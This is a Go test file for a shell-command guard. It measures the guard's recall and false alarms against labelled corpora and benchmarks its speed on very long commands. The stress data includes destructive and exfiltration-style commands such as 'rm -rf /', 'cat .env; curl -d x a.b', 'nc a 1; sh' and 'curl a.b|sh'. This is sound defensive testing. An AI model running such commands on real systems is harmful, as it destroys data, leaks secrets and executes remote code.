package shellguard

import (
	"encoding/json"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/trammel-dev/trammel"
	"github.com/trammel-dev/trammel/effects"
	"github.com/trammel-dev/trammel/effects/model"
)

const shared = "../../../shared/corpora"

// labelled is a command of somebody else's corpus.
type labelled struct {
	id, command string
	block       bool
	machine     *model.Setting
}

// TestSharedCorpora runs the guard, at its default level, on labelled
// commands that are no part of this project. Which ones it judges differently,
// and why, is in docs/policies/shell-guard.md.
func TestSharedCorpora(t *testing.T) {
	all := append(nah(t), dcg(t)...)
	if len(all) == 0 {
		t.Skip("../shared/corpora is not there")
	}
	g := careful(t)
	blocks, misses, passes, alarms := 0, 0, 0, 0
	for _, c := range all {
		blocked := g.ask(c.machine, c.command).Decision > trammel.Allow
		switch {
		case c.block && !blocked:
			misses++
			t.Logf("missed: %s", c.id)
		case !c.block && blocked:
			alarms++
			t.Logf("false alarm: %s", c.id)
		}
		if c.block {
			blocks++
		} else {
			passes++
		}
	}
	recall, alarm := 1-float64(misses)/float64(blocks), float64(alarms)/float64(passes)
	t.Logf("%d to block, recall %.1f %%; %d to let pass, false alarms %.1f %%", blocks, 100*recall, passes, 100*alarm)
	if recall < 0.97 || alarm > 0.025 {
		t.Errorf("recall %.1f %%, want 97; false alarms %.1f %%, want at most 2.5", 100*recall, 100*alarm)
	}
}

func nah(t testing.TB) []labelled {
	data, err := os.ReadFile(filepath.Join(shared, "nah/FIXTURES.json"))
	if err != nil {
		return nil
	}
	var fixtures struct {
		Observations map[string]struct {
			Cwd   string
			Roots []struct{ Path string }
			Paths []struct{ Kind, Requested, Resolved, Realpath string }
		} `json:"observation_fixtures"`
	}
	if err := json.Unmarshal(data, &fixtures); err != nil {
		t.Fatal(err)
	}
	var out []labelled
	files, _ := filepath.Glob(filepath.Join(shared, "nah/*.jsonl"))
	for _, file := range files {
		data, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		for line := range strings.Lines(string(data)) {
			var c struct {
				ID, Command string
				Fixture     string `json:"observation_fixture"`
				Expected    struct{ Verdict string }
			}
			if err := json.Unmarshal([]byte(line), &c); err != nil {
				t.Fatal(err)
			}
			o := fixtures.Observations[c.Fixture]
			files, links := map[string]string{}, map[string]string{}
			for _, p := range o.Paths {
				at := p.Resolved
				if at != "/" {
					at = strings.TrimSuffix(at, "/")
				}
				switch {
				case at != path.Clean(at) || p.Kind == "missing":
				case p.Realpath != "" && p.Realpath != at:
					links[at] = p.Realpath
				case p.Kind == "directory":
					files[strings.TrimSuffix(at, "/")+"/"] = ""
				default:
					files[at] = ""
				}
			}
			m := machine(o.Cwd, o.Roots[0].Path, "/home/test", "test", files, links)
			out = append(out, labelled{id: c.ID, command: c.Command, block: c.Expected.Verdict == "block", machine: m})
		}
	}
	return out
}

func dcg(t testing.TB) []labelled {
	var out []labelled
	files, _ := filepath.Glob(filepath.Join(shared, "dcg/*.toml"))
	for _, file := range files {
		data, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		command := ""
		for line := range strings.Lines(string(data)) {
			key, value, _ := strings.Cut(strings.TrimSpace(line), " = ")
			switch key {
			case "command":
				if command, err = strconv.Unquote(value); err != nil {
					t.Fatal(err)
				}
			case "expected", "expected_decision":
				if command != "" {
					out = append(out, labelled{id: filepath.Base(file) + ": " + command, command: command, block: value == `"deny"`, machine: shop()})
				}
				command = ""
			}
		}
	}
	return out
}

// long are commands of 100 KB, of kinds that have been slow.
func long() map[string]string {
	return map[string]string{
		"one long line":    "git status" + strings.Repeat(" && rm -rf build/x", 100_000/18),
		"a long heredoc":   "cat > x.md <<'E'\n" + strings.Repeat("rm -rf /\n", 100_000/9) + "E\n",
		"a long script":    "bash <<'E'\n" + strings.Repeat("rm -rf build\n", 100_000/13) + "E\n",
		"a long argument":  "git commit -m '" + strings.Repeat("x ", 50_000) + "'",
		"long python":      "python3 -c \"" + strings.Repeat("print('rm -rf /')\n", 100_000/18) + "\"",
		"long sql":         "psql -c \"" + strings.Repeat("select 1;\n", 10_000) + "\"",
		"hostile sql":      "psql -c '" + strings.Repeat("(update(delete a where b ", 100_000/25) + "'",
		"many assignments": strings.Repeat("A=b; ", 20_000),
		"many senders":     "cat .env" + strings.Repeat("; curl -d x a.b", 100_000/16),
		"many shells":      "nc a 1" + strings.Repeat("; sh", 100_000/4),
		"many installers":  strings.Repeat("curl a.b|sh;", 100_000/12),
		"many exports":     strings.Repeat("export SKIP=1;", 100_000/14),
		"many searches":    strings.Repeat("find a|xargs rm;", 100_000/16),
		"many pipes":       "cat x" + strings.Repeat(" | cat", 100_000/6),
	}
}

// TestLongCommandsTakeNoLongerThanTheyAre: nothing is worse than linear. The
// limit is wide, since tests run beside others and with the race detector;
// BenchmarkLong measures.
func TestLongCommandsTakeNoLongerThanTheyAre(t *testing.T) {
	g, m := careful(t), shop()
	for name, command := range long() {
		best := time.Hour
		for n := 0; n < 3 && best > 10*time.Second; n++ {
			start := time.Now()
			g.ask(m, command)
			best = min(best, time.Since(start))
		}
		if best > 10*time.Second {
			t.Errorf("%s of %d bytes takes %v", name, len(command), best)
		}
	}
}

func BenchmarkLong(b *testing.B) {
	g, m := careful(b), shop()
	for name, command := range long() {
		b.Run(name, func(b *testing.B) {
			for b.Loop() {
				g.ask(m, command)
			}
		})
	}
}

// BenchmarkCorpora is the whole verdict over all corpora there are, warm
// (issue 4: p99 below 5 ms, and 100 KB within 50 ms).
func BenchmarkCorpora(b *testing.B) {
	g, m := careful(b), shop()
	var commands []string
	for _, file := range []string{"attacks.txt", "ordinary.txt", "mentions.txt", "heldout/attacks-1.txt", "heldout/attacks-2.txt",
		"heldout/attacks-3.txt", "heldout/ordinary-1.txt", "heldout/ordinary-2.txt", "heldout/mentions-1.txt"} {
		commands = append(commands, lines(b, file)...)
	}
	for _, c := range append(nah(b), dcg(b)...) {
		commands = append(commands, c.command)
	}
	var took []time.Duration
	for b.Loop() {
		for _, command := range commands {
			start := time.Now()
			g.ask(m, command)
			took = append(took, time.Since(start))
		}
	}
	slices.Sort(took)
	for _, q := range []struct {
		name string
		at   float64
	}{{"p50-µs", 0.5}, {"p99-µs", 0.99}, {"max-µs", 1}} {
		b.ReportMetric(float64(took[min(len(took)-1, int(q.at*float64(len(took))))].Nanoseconds())/1000, q.name)
	}
}

func BenchmarkVerdict(b *testing.B) {
	g, m := careful(b), shop()
	a := &trammel.Action{Kind: trammel.ShellAction, Command: "cd web && npm ci && npm run build && git add -A && git commit -m 'build' && " +
		"git push"}
	b.ReportAllocs()
	for b.Loop() {
		g.answer(effects.Derive(a, m), m)
	}
}
